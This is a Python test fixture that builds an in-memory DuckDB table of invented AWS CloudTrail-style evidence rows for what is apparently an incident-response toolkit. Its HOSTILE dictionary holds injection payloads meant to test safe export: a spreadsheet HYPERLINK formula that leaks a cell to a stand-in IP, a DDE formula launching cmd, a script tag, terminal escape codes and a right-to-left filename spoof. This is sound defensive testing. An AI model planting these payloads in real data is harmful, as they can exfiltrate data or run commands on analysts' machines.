"""A table `evidence` of a few made-up rows, for what asks questions of it."""

from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from itertools import count

import duckdb

from evidence_kit.analysis.records.times import read_time
from evidence_kit.analysis.timeline.clocks import Clock
from evidence_kit.analysis.timeline.rows import Evidence

NUMBERS = ("time_ns", "line")
COLUMNS = (
    "case", "source", "provider", "target", "region", "time", "time_ns", "action", "actor", "credential", "src_ip",
    "user_agent", "resource", "outcome", "event_id", "artifact", "line", "raw",
)  # fmt: skip
USUAL = {
    "case": "IR-1",
    "source": "aws.cloudtrail.s3",
    "provider": "aws",
    "target": "111122223333",
    "region": "us-east-1",
    "action": "ListUsers",
    "actor": "arn:aws:iam::111122223333:user/ana",
    "credential": "AKIAEXAMPLE",
    "src_ip": "198.51.100.23",
    "user_agent": "curl",
    "resource": "thing",
    "outcome": "success",
    "raw": "{}",
}
# What evidence may say to whoever opens an export of it.
HOSTILE = {
    "action": '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "actor": "<script>alert(1)</script>",
    "credential": "\x1b[2J\x1b]0;owned\x07",
    "user_agent": "right\u202egpj.exe\u2028next",
    "resource": "@SUM(1+1)*cmd|' /C calc'!A0\r\nsecond: line",
    "raw": '{"x": "</script>\u0000\u202e"}',
}
_lines = count(1)


def row(time: str | None = "2026-11-21T12:00:00Z", **said: object) -> Mapping[str, object]:
    """Return a row; what is not said is usual, and each is another line."""
    found = read_time(time) if time else None
    text, ns = found or (None, None)
    return {**USUAL, "time": text, "time_ns": ns, "artifact": "bags/b/data/a.json", "line": next(_lines), **said}


@contextmanager
def evidence(*rows: Mapping[str, object], clocks: tuple[Clock, ...] = ()) -> Iterator[Evidence]:
    """Give a table of `rows`, in the order given; a time line has to find its own."""
    with duckdb.connect(":memory:") as connection:
        kinds = (f'"{name}" {"BIGINT" if name in NUMBERS else "VARCHAR"}' for name in COLUMNS)
        connection.execute(f"CREATE TABLE evidence ({', '.join(kinds)})")
        if rows:
            marks = ", ".join("?" for _ in COLUMNS)
            values = [[one.get(name) for name in COLUMNS] for one in rows]
            connection.executemany(f"INSERT INTO evidence VALUES ({marks})", values)
        yield Evidence(connection, clocks)


def clock(name: str, shift: float, case: str = "IR-1") -> Clock:
    """Return a clock that is `shift` seconds ahead."""
    return Clock(case=case, name=name, offset=shift, low=shift, high=shift, samples=1, shift=shift, why="")
